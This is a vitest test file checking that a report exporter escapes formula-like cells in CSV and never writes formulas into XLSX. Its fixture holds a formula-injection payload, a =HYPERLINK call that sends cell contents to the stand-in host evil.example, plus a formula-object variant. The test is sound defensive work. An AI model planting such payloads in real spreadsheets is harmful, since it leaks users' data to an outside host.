import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { describe, expect, it } from 'vitest';
import { GuardedZip } from '../files/zip.ts';
import { type ReportTable, tableCsv, tablesXlsx } from '../../common/spreadsheet.ts';

/** What strangers can put into a report (search queries, free survey answers), beside real numbers. */
const HOSTILE: ReportTable = {
  sheet: 'Проверка',
  title: 'Отчёт с опасными ячейками',
  columns: [
    { header: 'Текст', width: 40 },
    { header: 'Число', width: 10 },
  ],
  rows: [
    ['=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите")', -3.5],
    ['+7 (913) 000-00-00', 0],
    ['-2+3', -1],
    ['@SUM(A1:A9)', 12],
    ['\t=1+1', 1],
    ['\r=1+1', 2],
    ["'=1+1", 3],
    ['Обычный текст, в середине =1+1', 4],
  ],
};

describe('report files', () => {
  it('writes CSV cells that a spreadsheet would run as formulas (= + - @ tab CR) as text with a leading apostrophe, and numbers, negative ones too, as numbers', () => {
    const lines = tableCsv(HOSTILE).slice(1).split('\r\n');
    expect(lines.slice(2, -1)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1;""Нажмите"")";-3.5`,
      "'+7 (913) 000-00-00;0",
      "'-2+3;-1",
      "'@SUM(A1:A9);12",
      "'\t=1+1;1",
      `"'\r=1+1";2`,
      "''=1+1;3",
      'Обычный текст, в середине =1+1;4',
    ]);
  });

  it('writes XLSX cells as strings or numbers, never as formulas', async () => {
    // Even a value shaped like an ExcelJS formula object is written as text.
    const table: ReportTable = { ...HOSTILE, rows: [...HOSTILE.rows, [{ formula: 'HYPERLINK("http://evil.example")' }, -7]] };
    const bytes = await tablesXlsx([table]);
    expect(await sheetXml(bytes)).not.toContain('<f>');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(bytes as never);
    const sheet = workbook.worksheets[0]!;
    const cells = table.rows.map((_, i) => sheet.getRow(i + 3)).map((row) => [row.getCell(1), row.getCell(2)] as const);
    expect(cells.map(([text, number]) => [text.type, number.type])).toEqual(
      table.rows.map(() => [ExcelJS.ValueType.String, ExcelJS.ValueType.Number]),
    );
    // XML reads a bare CR in text as a line feed.
    expect(cells.slice(0, -1).map(([text, number]) => [text.value, number.value])).toEqual(
      HOSTILE.rows.map(([text, number]) => [String(text).replace(/\r/g, '\n'), number]),
    );
    expect(cells.at(-1)![1].value).toBe(-7);
  });
});

/** The first sheet's XML as written, to see how cells are typed. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'kb-xlsx-'));
  try {
    await fs.writeFile(path.join(dir, 'report.xlsx'), bytes);
    const zip = await GuardedZip.open(path.join(dir, 'report.xlsx'));
    try {
      return await zip.readText('xl/worksheets/sheet1.xml');
    } finally {
      zip.close();
    }
  } finally {
    await fs.rm(dir, { recursive: true, force: true });
  }
}
